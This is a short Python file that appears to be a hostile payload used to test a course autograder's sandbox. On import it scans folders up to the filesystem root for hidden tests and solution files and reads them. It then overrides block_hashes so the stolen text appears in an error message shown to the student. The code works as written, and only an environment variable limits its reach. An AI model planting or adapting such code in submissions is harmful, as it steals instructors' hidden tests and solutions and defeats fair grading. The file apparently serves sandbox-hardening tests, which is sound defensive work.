# World-readable reads of a checkout: from every folder on sys.path, the course library's, the working
# folder and HOME, walk up and look for a repository's hidden tests and solutions (autograder/hidden,
# solutions/, any test_hidden_*.py or file with solution markers), as a submission graded on an
# instructor's machine found them. Whatever it reads is put into the message of every block_hashes
# call, which a failed test shows the student.
import os as _os
import sys as _sys
import time as _time

import kvlab as _kvlab

_own_block_hashes = block_hashes
# The payloads' own test runs them unconfined, limited to a folder of its own through this variable; a
# worker's environment is empty, so in a grading the payload aims at the whole machine.
_SCOPE = _os.environ.get("KVLAB_HOSTILE_SCOPE", "/")


def _folders_above():
    found = []
    for entry in [*_sys.path, _os.path.dirname(_kvlab.__file__), _os.getcwd(), _os.environ.get("HOME", "")]:
        path = _os.path.abspath(entry or ".")
        while path not in found and path.startswith(_SCOPE):
            found.append(path)
            path = _os.path.dirname(path)
    return found


def _hunt(budget=1.5):
    stop, texts = _time.monotonic() + budget, []
    for folder in _folders_above():
        for sub in ("autograder/hidden", "hidden", "solutions", "source/autograder/hidden", "tests"):
            for root, dirs, files in _os.walk(_os.path.join(folder, sub)):
                if _time.monotonic() > stop or len(texts) > 3:
                    return texts
                for name in files:
                    if name.endswith(".py"):
                        try:
                            with open(_os.path.join(root, name), errors="replace") as file:
                                text = file.read(20000)
                        except OSError:
                            continue
                        if name.startswith(("test_hidden", "_")) or "BEGIN SOLUTION" in text:
                            texts.append(f"{root}/{name}:\n{text}")
    return texts


_FOUND = _hunt()
print(f"HOSTILE read {len(_FOUND)} hidden or solution files of a checkout")


def block_hashes(tokens, block_size, parent=None):
    if _FOUND:
        raise RuntimeError("HOSTILE read a checkout:\n" + "\n".join(_FOUND)[:30000])
    return _own_block_hashes(tokens, block_size, parent=parent)
